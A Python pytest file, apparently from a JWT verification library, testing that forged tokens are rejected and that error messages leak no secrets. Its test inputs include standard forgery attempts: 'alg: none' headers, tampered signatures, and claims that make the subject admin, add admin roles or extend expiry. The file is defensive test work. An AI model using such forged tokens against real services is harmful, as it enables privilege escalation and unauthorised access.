def _error_cases() -> list[Any]:
    iss, aud, sub, kid = SECRET_MARKERS
    return [
        pytest.param(lambda: forge(payload=claims_for(iss=iss)), id="issuer"),
        pytest.param(lambda: forge(payload=claims_for(aud=aud, sub=sub)), id="audience"),
        pytest.param(lambda: forge(payload=claims_for(sub=[sub])), id="claim-type"),
        pytest.param(lambda: forge(payload=claims_for(sub=sub, exp=NOW - 1)), id="expired"),
        pytest.param(lambda: forge(payload=claims_for(sub=sub, nbf=NOW + 99)), id="immature"),
        pytest.param(lambda: forge(payload=claims_for(sub=sub, jti=DROP)), id="missing"),
        pytest.param(lambda: forge(header_for(kid=kid), claims_for(sub=sub)), id="unknown-kid"),
        pytest.param(lambda: forge(header_for(kid=[kid])), id="kid-type"),
        pytest.param(lambda: forge(header_for(alg="none", x=kid)), id="alg-none"),
        pytest.param(lambda: forge(header_for(typ=kid)), id="typ"),
        pytest.param(lambda: forge(payload=b'{"sub":"' + sub.encode() + b'"'), id="bad-json"),
        pytest.param(lambda: forge(payload=claims_for(sub=sub))[:-2] + "AA", id="bad-signature"),
        pytest.param(lambda: forge(payload=claims_for(sub=sub)) + "=", id="bad-encoding"),
    ]


def _assert_discreet(exc: BaseException, token: str) -> None:
    text = "".join(traceback.format_exception_only(exc)) + repr(exc) + repr(exc.args)
    secret = hs().export_private_jwk()["k"]
    forbidden = [token, *token.split("."), *SECRET_MARKERS, secret, _hs256_secret().hex()]
    for item in forbidden:
        if len(item) >= 8:
            assert item not in text
    assert exc.__cause__ is None


@pytest.mark.parametrize("make", _error_cases())
def test_error_messages_reveal_no_token_claim_or_key(make: Callable[[], str]) -> None:
    """Errors reach logs and clients: they name the problem, never the token, values or keys."""
    token = make()
    with pytest.raises(TokenError) as excinfo:
        boundary_for().verify(token)
    _assert_discreet(excinfo.value, token)
    assert excinfo.value.code in DOCUMENTED_CODES.values()


def test_every_token_error_class_has_a_documented_code() -> None:
    """Clients switch on ``code``; each exported error class must carry its documented one."""
    for name in sjti.errors.__all__:
        cls = getattr(sjti.errors, name)
        if issubclass(cls, TokenError) and cls is not TokenError:
            documented = DOCUMENTED_CODES.get(cls) or next(
                c for k, c in DOCUMENTED_CODES.items() if issubclass(cls, k)
            )
            assert cls.code == documented, name


# ---------------------------------------------------------------------------------------
# the sjti (user) layer


@pytest.fixture
def bound(issuer: Issuer, user_key: UserKey) -> dict[str, Any]:
    """Claims as the issuer binds them to ``user_key`` (sjti included)."""
    return issuer.claims_for("user-1", user_key, now=NOW)


def test_issued_token_passes_both_layers(
    issuer: Issuer, verifier: UserVerifier, user_key: UserKey, bound: dict[str, Any]
) -> None:
    """Baseline: the issuer's token and a hand-signed copy of its claims both pass."""
    verifier.verify(issuer.issue("user-1", user_key), user_key)
    assert bound == verifier.verify(forge(payload=bound), user_key)


def test_missing_sjti_is_a_missing_claim(
    verifier: UserVerifier, user_key: UserKey, bound: dict[str, Any]
) -> None:
    """A token without sjti passes the boundary but never the user layer."""
    token = forge(payload=edit(dict(bound), {"sjti": DROP}))
    verifier.boundary.verify(token)
    with pytest.raises(MissingClaimError) as excinfo:
        verifier.verify(token, user_key)
    assert excinfo.value.claim == "sjti"


@pytest.mark.parametrize(
    "value",
    [123, True, [], {}, "", "A" * 42, "A" * 44, "é" * 43, None],
    ids=["int", "true", "list", "object", "empty", "short", "long", "non-ascii", "null"],
)
def test_sjti_of_wrong_type_or_length_is_revoked(
    verifier: UserVerifier, user_key: UserKey, bound: dict[str, Any], value: Any
) -> None:
    """Any sjti that is not a 43-character MAC is refused as revoked, never crashes."""
    token = forge(payload={**bound, "sjti": value})
    verifier.boundary.verify(token)
    with pytest.raises(RevokedTokenError):
        verifier.verify(token, user_key)


def test_token_checked_with_another_users_key_is_revoked(
    issuer: Issuer, verifier: UserVerifier, user_key: UserKey
) -> None:
    """Alice's token under Bob's key fails, just as after Alice's key is rotated."""
    token = issuer.issue("alice", user_key)
    with pytest.raises(RevokedTokenError):
        verifier.verify(token, UserKey.generate())


@pytest.mark.parametrize(
    "members",
    [{"sub": "admin"}, {"exp": NOW + 10**6}, {"roles": ["admin"]}, {"aud": [AUDIENCE, "x"]}],
    ids=["sub", "exp", "roles", "aud"],
)
def test_claims_changed_with_the_app_key_alone_are_revoked(
    verifier: UserVerifier, user_key: UserKey, bound: dict[str, Any], members: dict[str, Any]
) -> None:
    """With only the application key, nobody can move sub, stretch exp or add roles."""
    token = forge(payload={**bound, **members})
    verifier.boundary.verify(token)
    with pytest.raises(RevokedTokenError):
        verifier.verify(token, user_key)
